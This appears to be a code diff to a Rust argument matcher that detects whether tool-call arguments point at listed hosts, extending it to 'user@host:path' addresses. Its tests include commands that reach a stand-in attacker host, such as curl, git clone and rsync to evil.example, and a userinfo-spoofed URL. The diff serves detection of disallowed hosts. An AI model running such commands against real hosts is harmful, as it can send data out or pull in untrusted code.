@@ -81,7 +81,7 @@ fn may_match(when: &ArgumentMatch, arguments: &Value) -> bool {
         }
     }
     if let Some(patterns) = hosts {
-        let may_be = |token: &str| host_of(token).is_some_and(|host| patterns.iter().any(|it| is_host(it, &host)));
+        let may_be = |token: &str| hosts_of(token).any(|host| patterns.iter().any(|it| is_host(it, &host)));
         if is_open() || texts.iter().any(|text| each_token(text.text, may_be)) {
             return true;
         }
@@ -171,13 +171,16 @@ fn each_token(text: &str, mut look: impl FnMut(&str) -> bool) -> bool {
             .is_some_and(|words| words.iter().any(|word| look(word) || word.split('=').skip(1).any(&mut look)))
 }
 
-/// The host of an address, however it is written; also of one without a scheme.
-fn host_of(token: &str) -> Option<String> {
-    let host = |text: &str| {
-        let host = url::Url::parse(text).ok()?.host_str()?.trim_end_matches('.').to_ascii_lowercase();
-        (!host.is_empty()).then_some(host)
-    };
-    host(token).or_else(|| host(&format!("http://{token}")))
+/// The hosts that a text may lead to, however they are written: an address, one without a scheme, `user@host:path`.
+fn hosts_of(token: &str) -> impl Iterator<Item = String> {
+    let parts = token.split([':', '@']).filter(|part| !part.is_empty());
+    let without_scheme = std::iter::once(token).chain(parts).filter_map(|part| host(&format!("http://{part}")));
+    host(token).into_iter().chain(without_scheme)
+}
+
+fn host(address: &str) -> Option<String> {
+    let host = url::Url::parse(address).ok()?.host_str()?.trim_end_matches('.').to_ascii_lowercase();
+    (!host.is_empty()).then_some(host)
 }
 
 fn is_host(pattern: &str, host: &str) -> bool {
@@ -288,6 +291,8 @@ mod tests {
             r#"{"url": "https://good.example@evil.example/"}"#,
             r#"{"url": "https://a.evil.example:8443"}"#,
             r#"{"command": "curl evil.example/x"}"#,
+            r#"{"command": "git clone git@evil.example:x/y"}"#,
+            r#"{"command": "rsync a evil.example:b"}"#,
         ] {
             assert!(asks_about(rules, arguments), "{arguments}");
         }
